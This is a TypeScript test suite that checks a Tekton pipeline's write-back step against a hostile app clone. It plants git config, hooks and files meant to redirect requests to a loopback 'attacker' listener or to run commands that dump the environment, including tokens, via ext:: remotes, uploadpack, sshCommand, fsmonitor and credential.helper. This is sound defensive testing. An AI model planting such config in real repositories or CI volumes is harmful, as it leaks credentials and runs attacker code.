// The code under test owns the app's clone and anything else the lint and test pods can write. These
// tests plant in that clone (and beside it, on the run's volume) what a hostile `_test.go` could: config
// that sends git's requests elsewhere, commands git would run, hooks. Each plant is first shown to be
// live (git run in the planted clone with a credential fires it); then the write-back runs as the
// rendered Pipeline wires it after lint and test, and nothing planted runs, nothing reaches the
// attacker's listener, and the ops branch records the tested commit. With busybox's tools (the step
// image's) and with GNU ones.
import * as assert from "assert";
import * as fs from "fs";
import * as http from "http";
import { AddressInfo } from "net";
import * as path from "path";
import { planStack } from "../../components/plan/stack";
import { kubernetesObjectsIn } from "../../components/plan/ops-repository";
import { GITHUB_TOKEN_SECRET } from "../../components/plan/names";
import { RENDER_SECRETS } from "../../components/synth/render";
import { Pipeline, Task } from "../../components/tekton/types";
import { PipelineRunObjects, runClones, runWriteBackStep } from "../../e2e/pipeline-run";
import { FAKE_READ_TOKEN, FAKE_TOKEN, settings } from "../helpers/fixtures";
import { git, gitAsync, GitWorld } from "../helpers/git-world";
import { serveRepositories } from "../helpers/git-http-server";

/** An attacker's host on loopback: records every request, and asks for credentials so git offers any it has. */
async function listener() {
  const requests: string[] = [];
  const server = http.createServer((req, res) => {
    requests.push(`${req.method} ${req.url} ${req.headers.authorization ?? req.headers["proxy-authorization"] ?? "-"}`);
    res.writeHead(401, { "WWW-Authenticate": 'Basic realm="x"', "Proxy-Authenticate": 'Basic realm="x"' });
    res.end();
  });
  server.on("connect", (req, socket) => {
    requests.push(`CONNECT ${req.url} ${req.headers["proxy-authorization"] ?? "-"}`);
    socket.end("HTTP/1.1 407 Proxy Authentication Required\r\nProxy-Authenticate: Basic realm=\"x\"\r\n\r\n");
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () => new Promise<void>((r) => { server.closeAllConnections(); server.close(() => r()); }),
  };
}

/** What a planted command does: leaves a file, with the environment it ran in (a token there is a leak). */
const command = (marker: string) => `sh -c 'env > "${marker}"' --`;
const hook = (marker: string) => `#!/bin/sh\nenv > "${marker}"\n`;

interface Plant {
  what: string;
  /** Plants into the app clone `clone` (on the run's volume `volume`); `marker` is where a command writes. */
  plant(p: { clone: string; volume: string; marker: string; attacker: string; origin: string }): void;
}

const cfg = (clone: string, key: string, value: string) => git(clone, "config", key, value);
const HOOKS = ["pre-commit", "post-commit", "post-checkout", "pre-push", "reference-transaction", "post-merge", "pre-auto-gc", "post-rewrite"];

const PLANTS: Plant[] = [
  { what: "a remote URL to the attacker", plant: ({ clone, attacker }) => cfg(clone, "remote.origin.url", `${attacker}/app.git`) },
  { what: "a push URL to the attacker", plant: ({ clone, attacker }) => cfg(clone, "remote.origin.pushurl", `${attacker}/ops.git`) },
  { what: "url.<attacker>.insteadOf the git host", plant: ({ clone, attacker, origin }) => cfg(clone, `url.${attacker}/.insteadOf`, `${origin}/`) },
  { what: "http.proxy to the attacker", plant: ({ clone, attacker }) => cfg(clone, "http.proxy", attacker) },
  {
    what: "an ext:: remote with protocol.ext.allow",
    plant: ({ clone, marker }) => {
      cfg(clone, "protocol.ext.allow", "always");
      cfg(clone, "remote.origin.url", `ext::sh -c env% >% ${marker}`);
    },
  },
  {
    what: "remote.origin.uploadpack (on a local remote, where git runs it)",
    plant: ({ clone, volume, marker }) => {
      cfg(clone, "remote.origin.url", `file://${volume}/any.git`);
      cfg(clone, "remote.origin.uploadpack", command(marker));
    },
  },
  { what: "core.sshCommand", plant: ({ clone, marker }) => { cfg(clone, "core.sshCommand", command(marker)); cfg(clone, "remote.origin.url", "ssh://git@127.0.0.1:1/app.git"); } },
  { what: "core.fsmonitor", plant: ({ clone, marker }) => cfg(clone, "core.fsmonitor", command(marker)) },
  {
    what: "hooks in .git/hooks",
    plant: ({ clone, marker }) => {
      for (const h of HOOKS) fs.writeFileSync(path.join(clone, ".git", "hooks", h), hook(marker), { mode: 0o755 });
    },
  },
  {
    what: "hooks through core.hooksPath",
    plant: ({ clone, volume, marker }) => {
      const dir = path.join(volume, "planted-hooks");
      fs.mkdirSync(dir, { recursive: true });
      for (const h of HOOKS) fs.writeFileSync(path.join(dir, h), hook(marker), { mode: 0o755 });
      cfg(clone, "core.hooksPath", dir);
    },
  },
  { what: "a repository credential.helper", plant: ({ clone, marker }) => cfg(clone, "credential.helper", `!env > "${marker}"; true`) },
  {
    what: "include.path of a planted file",
    plant: ({ clone, volume, marker, attacker }) => {
      const file = path.join(volume, "planted.gitconfig");
      fs.writeFileSync(file, `[core]\n\tfsmonitor = ${command(marker)}\n[remote "origin"]\n\turl = ${attacker}/app.git\n`);
      cfg(clone, "include.path", file);
    },
  },
  {
    what: "a .git symlinked to a planted git folder",
    plant: ({ clone, volume, marker }) => {
      const planted = path.join(volume, "planted.git");
      fs.cpSync(path.join(clone, ".git"), planted, { recursive: true });
      git(volume, "--git-dir", planted, "config", "core.fsmonitor", command(marker));
      git(volume, "--git-dir", planted, "config", "remote.origin.uploadpack", command(marker));
      for (const h of HOOKS) fs.writeFileSync(path.join(planted, "hooks", h), hook(marker), { mode: 0o755 });
      fs.rmSync(path.join(clone, ".git"), { recursive: true });
      fs.symlinkSync(planted, path.join(clone, ".git"));
    },
  },
  {
    what: "an ops clone and a .gitconfig beside the app clone, where a write-back might look",
    plant: ({ volume, marker, attacker }) => {
      fs.writeFileSync(path.join(volume, ".gitconfig"), `[core]\n\tfsmonitor = ${command(marker)}\n[http]\n\tproxy = ${attacker}\n`);
      const ops = path.join(volume, "ops");
      git(volume, "init", "-q", ops);
      git(ops, "config", "remote.origin.url", `${attacker}/ops.git`);
      git(ops, "config", "core.fsmonitor", command(marker));
      for (const h of HOOKS) fs.writeFileSync(path.join(ops, ".git", "hooks", h), hook(marker), { mode: 0o755 });
    },
  },
];

describe("tekton: the write-back against a hostile app clone", function () {
  this.timeout(120000);
  // The fixture stack's Pipeline and Tasks, as pulumi up commits them; `task` the write-back's.
  const objects = kubernetesObjectsIn(planStack(settings(), RENDER_SECRETS).apps[0].repoFiles);
  const pipeline = objects.find((o): o is Pipeline => o.kind === "Pipeline")!;
  const tasks = objects.filter((o): o is Task => o.kind === "Task");
  const task = tasks.find((t) => t.metadata.labels?.["app.kubernetes.io/component"] === "write-back")!;

  it("the write-back binds no workspace of the run, and its Task declares none", () => {
    const update = pipeline.spec.tasks.find((t) => t.name === "update-image-revision");
    // Absent, not empty: the API server would drop an empty list, and Argo CD would see drift.
    assert.strictEqual(update?.workspaces, undefined);
    assert.strictEqual(task.spec.workspaces, undefined);
    assert.deepStrictEqual(update?.runAfter, ["test"], "it runs after the code under test (lint, then test)");
  });

  for (const tools of ["busybox", "gnu"] as const) {
    describe(`with ${tools === "busybox" ? "busybox's" : "GNU"} tools`, () => {
      for (const p of PLANTS) {
        it(p.what, async () => {
          const world = new GitWorld(2);
          const repos = await serveRepositories(world.root, "x-access-token", FAKE_TOKEN, { readToken: FAKE_READ_TOKEN });
          const attacker = await listener();
          try {
            const c1 = world.commits[1];
            const marker = path.join(world.root, "PLANTED-RAN");
            // The stack's repositories are the loopback server's (as if gitHost named it).
            const ownTask: Task = {
              ...task,
              spec: { ...task.spec, params: task.spec.params!.map((q) => (q.name === "OPS_URL" ? { ...q, default: `${repos.url}/ops.git` } : q)) },
            };
            const run: PipelineRunObjects = {
              params: { "repo-url": `${repos.url}/app.git`, revision: c1, "github-token-secret": GITHUB_TOKEN_SECRET.name, "github-token-secret-key": GITHUB_TOKEN_SECRET.key },
              pipeline,
              tasks: tasks.map((t) => (t === task ? ownTask : t)),
            };
            const env = { token: FAKE_READ_TOKEN, secrets: { [GITHUB_TOKEN_SECRET.key]: FAKE_TOKEN, [GITHUB_TOKEN_SECRET.readKey]: FAKE_READ_TOKEN }, gitEnv: {}, dir: path.join(world.root, "run"), tools };
            const [clone] = await runClones(run, env);
            const volume = path.dirname(clone);
            p.plant({ clone, volume, marker, attacker: attacker.url, origin: repos.url });

            // The control: git run in the planted clone with a credential, as the write-back once did, fires the plant.
            const withToken = { GIT_CONFIG_COUNT: "2", GIT_CONFIG_KEY_0: "credential.helper", GIT_CONFIG_VALUE_0: `!printf 'username=x-access-token\\npassword=${FAKE_TOKEN}\\n'`, GIT_CONFIG_KEY_1: "safe.directory", GIT_CONFIG_VALUE_1: "*", WRITE_TOKEN: FAKE_TOKEN, HOME: volume, GIT_TERMINAL_PROMPT: "0", GIT_SSH_COMMAND_TIMEOUT: "5" };
            const ops = fs.existsSync(path.join(volume, "ops")) ? path.join(volume, "ops") : clone;
            for (const argv of [["status"], ["fetch", "-q", "origin", c1], ["commit", "-q", "--allow-empty", "-m", "x"], ["push", "-q", "origin", "HEAD:refs/heads/x"]]) {
              for (const dir of [clone, ops]) {
                try {
                  await gitAsync(dir, ...argv, withToken);
                } catch {
                  // The plant may break the command; what counts is whether it fired.
                }
              }
            }
            const fired = fs.existsSync(marker) || attacker.requests.length > 0;
            assert.ok(fired, `the plant is not live: git in the planted clone did not fire it`);
            fs.rmSync(marker, { force: true });
            attacker.requests.length = 0;
            repos.requests.length = 0;

            const r = await runWriteBackStep(run, env);
            assert.strictEqual(r.code, 0, `${r.stdout}\n${r.stderr}`);
            assert.strictEqual(world.recordedRevision(), c1, "the ops branch records the tested commit");
            assert.ok(!fs.existsSync(marker), `a planted command ran:\n${fs.existsSync(marker) ? fs.readFileSync(marker, "utf8") : ""}`);
            assert.deepStrictEqual(attacker.requests, [], "the attacker's host received requests");
            for (const q of repos.requests) {
              assert.doesNotMatch(q, /\/app\.git\/git-receive-pack/, "nothing is pushed to the app repository");
            }
          } finally {
            await attacker.close();
            await repos.close();
            world.cleanup();
          }
        });
      }
    });
  }
});
